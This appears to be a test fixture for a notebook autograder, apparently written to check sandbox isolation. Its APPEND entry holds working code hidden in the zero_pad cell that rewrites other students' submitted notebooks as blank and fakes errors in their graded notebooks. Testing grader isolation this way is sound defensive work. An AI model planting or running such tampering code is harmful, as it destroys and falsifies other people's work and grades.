"""Sabotage classmates' files: another student's submitted notebook and graded notebook.

All eight functions are honest. The zero_pad cell replaces the notebook in
``../../../submitted/zzz-honest/`` (graded after it) with an empty copy of the
assignment, and rewrites ``../../../autograded/aaa-honest/`` (graded before it) so its
test cells show errors; it also tries every other folder in ``submitted/``.
Without protection: a later classmate graded 0 from a sabotaged notebook, an earlier
classmate's graded notebook and feedback falsified.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
import glob as _glob
import json as _json
import os as _os

_me = _os.path.basename(_os.path.dirname(_os.getcwd()))
for _path in _glob.glob("../../../submitted/*/cnn_step_by_step/*.ipynb"):
    if "/" + _me + "/" in _path:
        continue
    try:
        with open(_path) as _handle:
            _nb = _json.load(_handle)
        for _cell in _nb["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                _cell["source"] = "raise NotImplementedError()\\n"
        with open(_path, "w") as _handle:
            _json.dump(_nb, _handle)
    except Exception:
        pass
for _path in _glob.glob("../../../autograded/*/cnn_step_by_step/*.ipynb"):
    if "/" + _me + "/" in _path:
        continue
    try:
        with open(_path) as _handle:
            _nb = _json.load(_handle)
        for _cell in _nb["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
                _cell["outputs"] = [{"output_type": "error", "ename": "AssertionError",
                                     "evalue": "sabotaged by a classmate", "traceback": []}]
        with open(_path, "w") as _handle:
            _json.dump(_nb, _handle)
    except Exception:
        pass
'''}
